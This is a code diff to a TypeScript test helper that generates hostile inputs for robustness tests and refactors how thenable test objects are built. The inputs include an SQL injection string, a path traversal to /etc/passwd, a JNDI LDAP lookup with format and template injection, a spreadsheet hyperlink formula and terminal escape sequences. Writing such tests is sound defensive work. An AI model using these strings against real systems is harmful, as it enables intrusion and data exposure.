@@ -113,7 +113,7 @@ function hostileTexts(): Record<string, () => unknown> {
     SQL: "'; DROP TABLE records; --",
     'a formula': '=HYPERLINK("http://x.example","Ritz")',
     'a path': '../../../../etc/passwd\u0000.jpg',
-    'a format': '%s%n%x${jndi:ldap://x.example}{{7*7}}',
+    'a format': '%s%n%x$\u007bjndi:ldap://x.example}{{7*7}}',
     'a pattern': '(a+)+$^.*[\\',
     'a terminal sequence': '\u001b[2J\u001b]0;x\u0007Ritz',
   }
@@ -201,7 +201,6 @@ function hostileObjects(): Record<string, () => unknown> {
       '💩': 1,
       'a.b': { '..': 1 },
       toJSON: 1,
-      then: 1,
       length: -1,
     }),
     'text within that is not well-formed': () => ({ a: '\ud83d\u0000', b: ['\udc00', 'a\u0000b'] }),
@@ -233,6 +232,11 @@ function nested(levels: number, wrap: (inner: unknown) => unknown): unknown {
   let each: unknown = 1
   for (let level = 0; level < levels; level++) each = wrap(each)
   return each
+}
+
+/** What `await` takes for a promise. */
+function withThen(then: (...args: never[]) => unknown): object {
+  return Object.defineProperty({ name: 'Ritz' }, 'then', { value: then, enumerable: true, configurable: true })
 }
 
 function hostileReaders(): Record<string, () => unknown> {
@@ -306,9 +310,9 @@ function hostileReaders(): Record<string, () => unknown> {
     'toString that throws': () => ({ toString: fail, valueOf: fail }),
     'a conversion that throws': () => ({ [Symbol.toPrimitive]: fail }),
     'a promise': () => Promise.resolve('Ritz'),
-    'a then that never answers': () => ({ then: () => undefined, name: 'Ritz' }),
-    'a then that throws': () => ({ then: fail, name: 'Ritz' }),
-    'a then that refuses': () => ({ then: (_ok: unknown, refuse: (reason: unknown) => void) => refuse('no') }),
+    'a then that never answers': () => withThen(() => undefined),
+    'a then that throws': () => withThen(fail),
+    'a then that refuses': () => withThen((_ok: unknown, refuse: (reason: unknown) => void) => refuse('no')),
     'an iterator that is read once': () =>
       (function* once() {
         yield 'Ritz'
